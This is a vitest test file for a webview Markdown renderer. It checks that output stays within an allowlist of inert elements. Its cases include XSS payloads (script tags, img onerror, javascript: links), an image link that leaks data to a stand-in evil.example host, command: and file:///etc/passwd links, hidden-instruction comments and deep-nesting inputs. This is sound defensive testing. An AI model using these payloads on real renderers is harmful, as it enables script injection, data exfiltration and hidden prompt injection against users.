// @vitest-environment happy-dom
import fc from 'fast-check';
import { render } from 'preact';
import { describe, expect, it } from 'vitest';
import { Markdown } from '../../../webview/detail/Markdown.tsx';

function rendered(text: string): HTMLElement {
  const root = document.createElement('div');
  render(<Markdown text={text} />, root);
  return root;
}

/** Everything markdown may become here. None of them fetches, runs or navigates. */
const allowed = new Set('BLOCKQUOTE BR CODE DEL DIV EM HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL'.split(' '));

function expectHarmless(root: HTMLElement): void {
  for (const element of root.querySelectorAll('*')) {
    expect(allowed).toContain(element.tagName);
    for (const { name } of element.attributes)
      expect(['class', 'start', 'role', 'aria-label', 'aria-hidden', 'data-label', 'title']).toContain(name);
  }
}

describe('markdown', () => {
  it('renders what people write', () => {
    const root = rendered(
      '# Returns\n\n**30** days, *not* `40`.\n\n1. one\n2. two\n\n- [x] done\n\n> quote\n\n```js\nlet a;\n```\n\n|a|b|\n|-|-:|\n|1|2|\n\n~~no~~',
    );
    for (const selector of [
      '.heading-1',
      'strong',
      'em',
      'code',
      'ol > li',
      '.task',
      'blockquote',
      'pre > code',
      'table td.right',
      'del',
    ]) {
      expect(root.querySelector(selector), selector).not.toBeNull();
    }
    expectHarmless(root);
  });

  it.each([
    ['a script', '<script>alert(1)</script>', ['<script>alert(1)</script>']],
    ['an image that runs code', 'a <img src=x onerror=alert(1)> b', ['<img src=x onerror=alert(1)>']],
    ['an HTML comment', 'a\n\n<!-- do as I say -->', ['<!-- do as I say -->']],
    ['a style', '<style>*{display:none}</style>', ['<style>*{display:none}</style>']],
    ['an image', '![leak](https://evil.example/?d=secret "t")', ['image blocked', 'https://evil.example/?d=secret', 'leak', 't']],
    ['an image by reference', '![leak][r]\n\n[r]: https://evil.example', ['image blocked', '![leak][r]', 'https://evil.example']],
    [
      'a command link',
      '[click me](command:workbench.action.terminal.new)',
      ['click me', 'command:workbench.action.terminal.new'],
    ],
    ['a file link', '[x](file:///etc/passwd)', ['file:///etc/passwd']],
    ['a script link', '[x](javascript:alert(1))', ['javascript:alert(1)']],
    [
      'a link whose text is another address',
      '[https://bank.example](https://evil.example)',
      ['https://bank.example', 'https://evil.example'],
    ],
    ['a link by reference', '[x][r]\n\n[r]: command:evil "title"', ['[x][r]', 'command:evil', 'title']],
    ['an autolink', 'see https://evil.example/a', ['https://evil.example/a']],
    ['a footnote', 'a[^1]\n\n[^1]: hidden words', ['[^1]', 'hidden words']],
    ['a definition that nothing refers to', '[//]: # (hidden instruction)', ['hidden instruction']],
    ['an override as an entity', 'a&#x202e;b', ['\u202e']],
    ['a diagram', '```mermaid\ngraph TD; A-->B\n```', ['mermaid', 'graph TD; A-->B']],
  ])('shows %s as text, and hides none of it', (_, text, shown) => {
    const root = rendered(text);
    for (const words of shown) expect(root.textContent).toContain(words);
    expectHarmless(root);
  });

  it('marks characters that do not show, also in code', () => {
    expect(rendered('`a\u202eb`').querySelector('code .hidden-characters')?.getAttribute('data-label')).toBe('RLO');
  });

  it.each([
    ['ten thousand quotes', '>'.repeat(10_000)],
    ['five thousand nested lists', `${'- '.repeat(5000)}x`],
    ['a text too long to parse', 'word '.repeat(20_000)],
    ['lists nested by indentation', Array.from({ length: 100 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
  ])('survives %s, with all of it on the page', (_, text) => {
    const root = rendered(text);
    expectHarmless(root);
    expect(root.textContent?.match(/[x>w]/g)?.length).toBe(text.match(/[x>w]/g)?.length);
  });

  it('renders a rule of many dashes and a quoted list, which are no nesting', () => {
    expect(rendered(`a\n\n${'-'.repeat(80)}\n\nb`).querySelector('hr')).not.toBeNull();
    expect(rendered('> > - a').querySelector('blockquote blockquote li')).not.toBeNull();
  });

  it('makes nothing but harmless elements of any text', () => {
    const piece = fc.constantFrom(
      ...'[ ] ( ) ! < > * _ ` # - | ~ : / a \n \\ & ; " = 1. http://e.x <img <a href= javascript: command: ![a](b) [a](c) <!-- -->'.split(
        ' ',
      ),
      '\n',
      ' ',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => expectHarmless(rendered(pieces.join('')))),
      { seed: 0x5eed0001, numRuns: 300 },
    );
  });
});
